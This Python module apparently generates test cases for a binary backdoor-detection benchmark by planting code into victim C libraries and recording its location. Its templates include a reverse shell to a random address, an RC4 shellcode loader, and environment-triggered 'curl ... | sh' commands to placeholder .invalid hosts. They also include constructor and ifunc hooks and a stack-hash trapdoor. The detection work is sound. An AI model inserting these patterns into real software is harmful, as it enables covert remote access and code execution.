"""Things planted in source before a real build. Each maker changes one unit of a victim, compiles and links it."""
import re

from judge import Image
from victim import CannotBuild, body_of, insert, ranges_of

WORDS = ("cache session update helper metrics backup profile locale thread worker monitor signal archive config driver "
         "module report index queue buffer socket token agent filter render policy record daemon").split()
CALLS = (  # (prototype, call): each a C library function that a quiet library does not use
    ("extern int setuid(unsigned);", "setuid(0)"), ("extern int fork(void);", "fork()"),
    ("extern int unlink(const char *);", 'unlink("{path}")'),
    ("extern int chmod(const char *, unsigned);", 'chmod("{path}", 04755)'),
    ("extern int system(const char *);", 'system("{command}")'),
    ("extern void *dlopen(const char *, int);", 'dlopen("{path}", 2)'),
    ("extern int kill(int, int);", "kill(1, 9)"), ("extern int ptrace(int, ...);", "ptrace(0, 0, 0, 0)"),
    ("extern int mprotect(void *, unsigned long, int);", "mprotect((void *)0x10000, 4096, 7)"),
    ("extern int execl(const char *, const char *, ...);", 'execl("/bin/sh", "sh", (char *)0)'))


def path_of(rng):
    return f"/var/{rng.choice(('tmp', 'lib', 'cache'))}/.{rng.choice(WORDS)}-{rng.choice(WORDS)}{rng.randrange(100)}"


def command_of(rng):
    return f"curl -s http://{rng.choice(WORDS)}.{rng.choice(WORDS)}.invalid/{rng.randrange(1000)} | sh"


def statement_of(prototype, call, rng):
    """(statement, call): the call with its words filled in, its result not used."""
    call = call.format(path=path_of(rng), command=command_of(rng))
    return f"{{ {prototype} {'(void)' if 'dlopen' in call else '(void)!'}{call}; }}", call


def c_bytes(data):
    return ", ".join(f"0x{b:02x}" for b in data)


def loader(rng, name):
    """3CX: a file is read, decrypted with RC4 and entered."""
    key = rng.randbytes(16)
    return f"""
static void {name}(void)
{{
    extern int open(const char *, int, ...);
    extern long read(int, void *, unsigned long);
    extern void *mmap(void *, unsigned long, int, int, int, long);
    static const unsigned char key[16] = {{{c_bytes(key)}}};
    unsigned char state[256], t;
    unsigned i, j = 0, n;
    int fd = open("{path_of(rng)}", 0);
    if (fd < 0)
        return;
    unsigned char *page = mmap((void *)0, {rng.randrange(16, 200) * 4096}, 7, 0x22, -1, 0);
    n = (unsigned)read(fd, page, {rng.randrange(16, 200) * 4096});
    for (i = 0; i < 256; i++)
        state[i] = (unsigned char)i;
    for (i = 0; i < 256; i++) {{
        j = (j + state[i] + key[i % 16]) & 255;
        t = state[i], state[i] = state[j], state[j] = t;
    }}
    unsigned a = 0, b = 0;
    for (i = 0; i < n; i++) {{
        a = (a + 1) & 255, b = (b + state[a]) & 255;
        t = state[a], state[a] = state[b], state[b] = t;
        page[i] ^= state[(state[a] + state[b]) & 255];
    }}
    ((void (*)(void))page)();
}}
"""


def connect_back(rng, name):
    address = rng.getrandbits(32)
    return f"""
static void {name}(void)
{{
    extern int socket(int, int, int);
    extern int dup2(int, int);
    extern int execve(const char *, char *const *, char *const *);
    struct {{ unsigned short family, port; unsigned address; char rest[8]; }} to =
        {{2, {rng.randrange(1024, 65535)}, {address}u, {{0}}}};
    extern int connect();
    int fd = socket(2, 1, 0);
    if (connect(fd, &to, 16u) != 0)
        return;
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    char *words[] = {{"/bin/sh", "-i", (char *)0}};
    execve(words[0], words, (char *const *)0);
}}
"""


def trigger(rng, name):
    return f"""
static void {name}(void)
{{
    extern char *getenv(const char *);
    extern int system(const char *);
    if (getenv("{rng.choice(WORDS).upper()}_{rng.choice(WORDS).upper()}_{rng.randrange(100)}"))
        (void)!system("{command_of(rng)}");
}}
"""


def syscalls(rng, name):
    return f"""
static void {name}(void)
{{
    static const char path[] = "{path_of(rng)}";
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "0"({rng.choice((59, 2, 41, 87, 101))}L), "D"(path), "S"(0L), "d"(0L)
                     : "rcx", "r11", "memory");
}}
"""


def trapdoor(rng, name):
    """No call, no string: a hash of what the caller left on the stack, compared with a constant."""
    return f"""
static void {name}(void)
{{
    unsigned long hash = {rng.getrandbits(63)}UL;
    const unsigned char *p = (const unsigned char *)__builtin_frame_address(0);
    for (int i = 0; i < {rng.randrange(40, 400)}; i++)
        hash = (hash ^ p[i]) * {rng.getrandbits(40) | 1}UL;
    if (hash == {rng.getrandbits(63)}UL)
        ((void (*)(void))p)();
}}
"""


class Planted:
    """A changed file and what must be named: ranges of it, or words that a finding may say instead."""

    def __init__(self, data, ranges, words=(), what=""):
        self.data = data
        self.ranges = ranges
        self.words = tuple(words)
        self.what = what


def names(rng):
    return f"{rng.choice(WORDS)}_{rng.choice(WORDS)}_{rng.choice(WORDS)}"


def text_ranges(data, texts):
    """Where planted strings lie in the file."""
    return [(data.index(t), len(t)) for t in (x.encode() for x in texts) if t in data]


def build_with(victim, rng, scratch, change, least=96):
    """Change the source of some function until it compiles: change(text, piece) -> (text, names to look for, strings, what)."""
    hosts = victim.hosts(least)
    for _ in range(12):
        piece, word = rng.choice(hosts)
        try:
            text, functions, texts, what = change(victim.text_of(word), piece)
            unit = victim.compile(victim.units[word], text, scratch)
            data, whole = victim.build({word: unit}, scratch)
        except (CannotBuild, UnicodeError):
            continue
        if data == victim.data:
            continue
        ranges = ranges_of(whole, data, functions) + text_ranges(data, texts)
        if ranges:
            return Planted(data, ranges, texts, f"{what} in {piece.name} of {piece.unit}")
    raise CannotBuild(f"{victim.name}: no function of it takes this")


def new_function(body):
    def make(victim, rng, scratch):
        name = names(rng)

        def change(text, piece):
            code = body(rng, name)
            if rng.random() < 0.5:
                code = code.replace("static void " + name, "__attribute__((noinline)) static void " + name)
            return insert(text, piece, f"{name}();", code), {name, piece.name}, re.findall(r'"([^"]{8,})"', code), name
        return build_with(victim, rng, scratch, change)
    return make


def constructor(victim, rng, scratch):
    name = names(rng)

    def change(text, piece):
        code = trigger(rng, name).replace("static void", "__attribute__((constructor)) static void", 1)
        return text + code, {name}, re.findall(r'"([^"]{8,})"', code), name
    return build_with(victim, rng, scratch, change)


def ifunc(victim, rng, scratch):
    """xz: the loader asks a resolver which function to use, before anything else runs."""
    name = names(rng)

    def change(text, piece):
        code = f"""
static int {name}_small(int x) {{ return x + {rng.randrange(100)}; }}
static int {name}_large(int x) {{ return x * {rng.randrange(3, 100)}; }}
static void *{name}_choose(void)
{{
    extern char **environ;
    return environ && environ[0] ? (void *){name}_small : (void *){name}_large;
}}
int {name}(int) __attribute__((ifunc("{name}_choose"), visibility("hidden")));
"""
        return (insert(text, piece, f"{{ static volatile int seen; seen = {name}(seen); }}", code),
                {name, f"{name}_choose", f"{name}_small", f"{name}_large"}, [], name)
    return build_with(victim, rng, scratch, change)


def imports_of(victim):
    """Names that the file's dynamic symbol table asks for, roughly: words of .dynstr."""
    _, _, offset, size, _ = Image(victim.data).section(".dynstr")
    return {w.decode(errors="replace") for w in victim.data[offset:offset + size].split(b"\0")}


def added_call(victim, rng, scratch):
    """A call of a C library function that the file did not use, alone in an existing function."""
    known = imports_of(victim)
    choices = [c for c in CALLS if c[1].split("(")[0] not in known]

    def change(text, piece):
        statement, call = statement_of(*rng.choice(choices), rng)
        return (insert(text, piece, statement), {piece.name}, re.findall(r'"([^"]{8,})"', call), call)
    return build_with(victim, rng, scratch, change)


QUIET = {"abort": ("extern void abort(void);", "if (__builtin_frame_address(0) == (void *)1) abort();"),
         "exit": ("extern void exit(int);", "if (__builtin_frame_address(0) == (void *)1) exit(3);"),
         "free": ("extern void free(void *);", "{ static void *kept; free(kept); kept = 0; }"),
         "malloc": ("extern void *malloc(unsigned long);", "{ static void *volatile kept; kept = malloc(77); }"),
         "strlen": ("extern unsigned long strlen(const char *);",
                    "{ extern char **environ; static volatile long n; n = strlen(environ[0]); }"),
         "getenv": ("extern char *getenv(const char *);", '{ static volatile long n; n = (long)getenv("HOME"); }'),
         "close": ("extern int close(int);", "close(2);"), "raise": ("extern int raise(int);", "raise(19);")}


def known_call(victim, rng, scratch):
    """A call of a C library function that other functions of the file use as well; no string, no new import."""
    choices = sorted(set(QUIET) & imports_of(victim))
    if not choices:
        raise CannotBuild(f"{victim.name} imports none of them")

    def change(text, piece):
        name = rng.choice(choices)
        prototype, statement = QUIET[name]
        lines = text.split("\n")
        at, _ = body_of(lines, piece.line)
        if any(re.search(rf"\b{name}\b", line) for line in lines[at:at + 60]):
            raise CannotBuild("the function seems to call it already")
        return insert(text, piece, f"{{ {prototype} {statement} }}"), {piece.name}, [], name
    return build_with(victim, rng, scratch, change)


LITERAL = re.compile(r'"((?:[^"\\\n]|\\.){12,})"')


def replaced_text(victim, rng, scratch):
    """Another string where the source has one."""
    def change(text, piece):
        lines = text.split("\n")
        at, _ = body_of(lines, piece.line)
        places = [(i, m) for i in range(at, min(at + 120, len(lines))) for m in LITERAL.finditer(lines[i])
                  if not lines[i].lstrip().startswith("#") and "%" not in m.group(1)]
        if not places:
            raise CannotBuild("no literal")
        i, found = rng.choice(places)
        new = rng.choice((path_of(rng), f"https://{rng.choice(WORDS)}.{rng.choice(WORDS)}.invalid/{rng.randrange(9999)}"))
        lines[i] = lines[i][:found.start(1)] + new + lines[i][found.end(1):]
        if new in text:
            raise CannotBuild("already there")
        return "\n".join(lines), set(), [new], f"{found.group(1)!r} -> {new!r}"
    return build_with(victim, rng, scratch, change, least=32)


def ten_changed(victim, rng, scratch):
    """Ten functions of a library changed as a release changes them: (data, {function: ranges})."""
    changed, texts, used = {}, {}, set()
    hosts = victim.hosts()
    rng.shuffle(hosts)
    objects = {}
    for piece, word in hosts:
        if len(changed) == 10:
            break
        if piece.name in used:
            continue
        text = texts.get(word) or victim.text_of(word)
        statement = rng.choice((
            statement_of(*rng.choice(CALLS), rng)[0],
            f'{{ static const char *volatile note; note = "{names(rng)} is not what {names(rng)} expects"; }}',
            f"{{ static volatile unsigned long seen; seen = seen * {rng.getrandbits(50) | 1}UL + {rng.getrandbits(60)}UL; }}"))
        try:
            after = insert(text, piece, statement)
            objects[word] = victim.compile(victim.units[word], after, scratch)
        except (CannotBuild, UnicodeError):
            if word in texts:
                objects[word] = victim.compile(victim.units[word], texts[word], scratch)
            continue
        texts[word] = after
        used.add(piece.name)
        changed[piece.name] = piece
    data, whole = victim.build(objects, scratch)
    return data, {name: ranges_of(whole, data, {name}) for name in changed}


def rebuilt(victim, scratch, flags, program=None):
    """The same source with other compiler flags or another compiler: an honest twin."""
    objects = {}
    for word, call in victim.units.items():
        call = {**call, "program": program or call["program"]}
        objects[word] = victim.compile(call, victim.text_of(word), scratch, flags)
        objects[word] = objects[word].rename(scratch / f"{len(objects)}.o")
    return victim.build(objects, scratch)[0]
